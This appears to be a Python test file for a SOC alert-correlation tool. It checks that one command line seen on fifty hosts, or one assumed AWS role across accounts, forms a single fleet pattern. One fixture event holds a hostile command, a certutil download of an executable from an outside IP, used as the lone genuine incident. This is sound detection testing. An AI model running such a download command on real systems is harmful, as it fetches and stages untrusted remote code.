"""The same thing on many hosts is one fleet pattern with its spread, not many incidents."""

from __future__ import annotations

from socpilot.correlate import correlate, fleet_patterns, list_incidents, show
from socpilot.model.ocsf import EventClass as C

UPDATER = "C:\\Program Files\\Acme\\updater.exe --check --silent"


def test_one_command_line_on_fifty_hosts_is_one_pattern_not_fifty_incidents(b, workspace, put_events) -> None:
    rows = put_events([b.event("windows", b.t0 + b.minutes(n * 7), C.PROCESS, host_name=f"WS{n:03d}.corp.local",
                                  process_cmd=UPDATER.replace("--check", "--check ") if n % 2 else UPDATER,
                                  process_name="updater.exe", parent_name="services.exe")
                       for n in range(50)])
    odd = put_events([b.event("windows", b.t0 + b.minutes(3), C.PROCESS, host_name="WS007.corp.local",
                                 process_cmd="certutil -urlcache -f http://203.0.113.7/a.exe a.exe",
                                 process_name="certutil.exe")])
    alerts = [b.alert("updater", [r], "medium", ["execution"], title="Unsigned updater") for r in rows]
    alerts.append(b.alert("certutil", odd, "high", ["command-and-control"], title="Certutil download"))
    report = correlate(workspace, alerts)

    [pattern] = fleet_patterns(workspace)
    assert (pattern.kind, pattern.host_count, pattern.alert_count) == ("command_line", 50, 50)
    assert pattern.value == UPDATER.lower()  # whitespace differences do not split it
    assert pattern.first_seen == b.t0 and pattern.last_seen == b.t0 + b.minutes(49 * 7)
    assert report.alerts_in_patterns == 50
    assert pattern.summary() == ("\"Unsigned updater\" matched the same command line on 50 hosts since "
                                 "Monday 2026-03-02 09:00 UTC (50 alerts).")

    [case] = list_incidents(workspace)  # only the one-off download is an incident
    assert case.hosts == ["ws007"] and case.alert_count == 1
    text = show(workspace, case.id)
    assert "ws007 also belong to the 50 hosts where \"Unsigned updater\"" in text  # context, once
    assert report.incidents == 1


def test_below_the_spread_threshold_alerts_stay_incidents(b, workspace, put_events) -> None:
    rows = put_events([b.event("windows", b.t0 + b.minutes(n), C.PROCESS, host_name=f"SRV{n}", process_cmd=UPDATER)
                       for n in range(3)])
    report = correlate(workspace, [b.alert("updater", [r]) for r in rows], fleet_min_hosts=10)
    assert (report.patterns, report.incidents) == (0, 3)


def test_sessions_of_one_assumed_role_are_one_pattern_over_accounts(workspace, put_events, b) -> None:
    rows = put_events([b.event("cloudtrail", b.t0 + b.minutes(n), C.API, cloud_action="AssumeRole",
                               user_name=f"erp-report-{n}", src_ip="10.40.3.81",
                               cloud_principal=f"arn:aws:sts::1:assumed-role/erp-reporting/erp-report-{n}")
                       for n in range(30)])
    report = correlate(workspace, [b.alert("assume", [r], "low", ["lateral-movement"], title="AssumeRole")
                                   for r in rows])
    [pattern] = fleet_patterns(workspace)
    assert (report.incidents, pattern.kind, pattern.unit, pattern.host_count) == (0, "cloud_role", "accounts", 30)
    assert pattern.value == "arn:aws:sts::1:assumed-role/erp-reporting"
